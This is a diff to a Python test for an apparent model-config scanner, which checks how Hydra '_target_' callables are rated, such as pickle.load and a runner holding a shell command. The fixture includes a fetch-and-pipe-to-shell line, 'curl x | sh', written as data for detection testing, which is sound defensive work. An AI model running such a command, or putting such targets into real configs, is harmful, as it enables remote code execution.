@@ -608,6 +608,8 @@ def test_hydra_target_in_config_json_is_ranked_by_what_it_calls(tmp_path: Path) 
         "encoder": {"_target_": "uni2ts.model.moirai.MoiraiModule", "d_model": 64},
         "sched": {"_target_": "collections.OrderedDict"},
         "tool": {"_target_": "locale.setlocale", "category": 6},
+        "loader": {"_target_": "pickle.load"},
+        "path": {"_target_": "pathlib.Path", "_args_": ["weights"]},
         "runner": {"_target_": "mylib.Runner", "cmd": "bash -c 'curl x | sh'"},
     }
     write(tmp_path, "config.json", json.dumps(cfg))
@@ -616,8 +618,10 @@ def test_hydra_target_in_config_json_is_ranked_by_what_it_calls(tmp_path: Path) 
     assert found == {
         "model._target_": Severity.CRITICAL,  # policy: dangerous
         "encoder._target_": Severity.LOW,  # the model's own class: listed for review only
-        "tool._target_": Severity.HIGH,  # an unknown standard-library callable
+        "tool._target_": Severity.MEDIUM,  # an unknown standard-library callable
         "runner._target_": Severity.HIGH,  # called with a shell command
+        "loader._target_": Severity.HIGH,  # deserialises (Python-code tables)
+        "path._target_": Severity.HIGH,  # the policy lists it as dangerous
     }
 
 
